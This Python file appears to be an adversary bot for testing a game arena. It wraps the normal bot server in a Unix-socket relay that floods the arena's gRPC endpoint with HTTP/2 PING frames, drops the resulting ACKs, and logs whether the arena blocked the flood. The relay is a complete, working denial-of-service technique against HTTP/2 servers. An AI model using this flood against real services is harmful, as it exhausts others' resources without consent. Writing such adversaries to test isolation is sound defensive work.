"""Adversary: plays the default game and floods the arena with HTTP/2 PING frames.

The SDK's server listens on an inner socket in the bot's scratch directory; the bot's public
socket is a small relay that copies the server's HTTP/2 frames to the arena and, between them,
writes PING frames (type 6, flags 0, stream 0, 8 bytes of payload) as fast as it can. Every
PING obliges the arena's gRPC to read it and answer it with a PING ACK: work done by the arena,
outside the bot's CPU quota. The arena's ACKs are dropped on the way back to the server.

The relay writes PINGs only after the server's first frame (its SETTINGS), so the connection
starts as HTTP/2 requires; the arena's side starts with the 24-byte connection preface.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
import threading
from pathlib import Path

from flipflop import Bot, BotServer, HandResult
from flipflop._server import _listen_argument

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADER = 9
PING = 0x6
ACK = 0x1
ATTACK = json.loads((Path(__file__).parent / "attack.json").read_text() or "{}")
BATCH = int(ATTACK.get("batch", 512))
"""PINGs per write (0: none, a plain relay, to compare with)."""

sent = [0]


def report(attack: str, blocked: bool, detail: str = "", **extra: object) -> None:
    """One line on stderr saying what was tried and what happened."""
    line = {"attack": attack, "blocked": blocked, "detail": detail, **extra}
    print("ATTACK " + json.dumps(line), file=sys.stderr, flush=True)


def pings(start: int, n: int) -> bytes:
    """``n`` PING frames with payloads counting from ``start``."""
    head = struct.pack(">I", 8)[1:] + bytes([PING, 0]) + b"\0\0\0\0"
    return b"".join(head + struct.pack(">Q", start + i) for i in range(n))


def frames(buf: bytearray) -> list[bytes]:
    """Take the complete frames off the front of ``buf``."""
    out = []
    while len(buf) >= HEADER:
        size = HEADER + int.from_bytes(buf[:3], "big")
        if len(buf) < size:
            break
        out.append(bytes(buf[:size]))
        del buf[:size]
    return out


def to_server(arena: socket.socket, server: socket.socket) -> None:
    """Copy the arena's frames to the server, less its PING ACKs (ours, not the server's)."""
    buf = bytearray()
    preface = True
    try:
        while data := arena.recv(1 << 16):
            buf += data
            if preface:
                if len(buf) < len(PREFACE):
                    continue
                server.sendall(bytes(buf[: len(PREFACE)]))
                del buf[: len(PREFACE)]
                preface = False
            out = [f for f in frames(buf) if not (f[3] == PING and f[4] & ACK and ours(f))]
            if out:
                server.sendall(b"".join(out))
    except OSError:
        pass
    finally:
        close(arena, server)


MARK = 1 << 62
"""Set in the payload of the relay's PINGs, to tell their ACKs from the server's."""


def ours(frame: bytes) -> bool:
    """True for the ACK of one of the relay's PINGs."""
    return bool(int.from_bytes(frame[9:17], "big") & MARK)


def close(*socks: socket.socket) -> None:
    """Close every socket of a connection, whatever state it is in."""
    for s in socks:
        with contextlib.suppress(OSError):
            s.close()


def to_arena(server: socket.socket, arena: socket.socket) -> None:
    """Copy the server's frames to the arena, with PINGs between them, as fast as possible."""
    buf = bytearray()
    started = False
    try:
        while True:
            ready, _, _ = select.select([server], [], [], 0 if started and BATCH else None)
            if ready:
                data = server.recv(1 << 16)
                if not data:
                    return
                buf += data
                out = frames(buf)
                if out:
                    arena.sendall(b"".join(out))
                    started = True
                continue
            arena.sendall(pings(MARK + sent[0], BATCH))
            sent[0] += BATCH
            if sent[0] % (BATCH << 10) == 0:
                report("ping flood", False, "flooding", pings=sent[0])
    except OSError:
        pass
    finally:
        report("ping flood", True, "the arena closed the connection", pings=sent[0])
        close(arena, server)


def relay(public: str, inner: str) -> None:
    """Accept the arena's connections on ``public``; relay each to ``inner``."""
    Path(public).unlink(missing_ok=True)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(public)
    listener.listen(8)
    while True:
        arena, _ = listener.accept()
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.connect(inner)
        threading.Thread(target=to_server, args=(arena, server), daemon=True).start()
        threading.Thread(target=to_arena, args=(server, arena), daemon=True).start()


class PingFlood(Bot):
    """The default game."""

    name = "pingflood"
    version = "1.0.0"

    def hand_ended(self, result: HandResult) -> None:
        """Say how many PINGs went out so far."""
        report("ping flood", False, "flooding", pings=sent[0])


if __name__ == "__main__":
    listen = _listen_argument(sys.argv[1:]) or os.environ["FLIPFLOP_LISTEN"]
    public = listen.removeprefix("unix:")
    inner = os.path.join(os.environ.get("TMPDIR", "/tmp"), f"inner-{os.getpid()}.sock")
    server = BotServer(PingFlood, f"unix:{inner}")
    server.start()
    print(f"serving pingflood on {listen} (inner {inner})", flush=True)
    relay(public, inner)
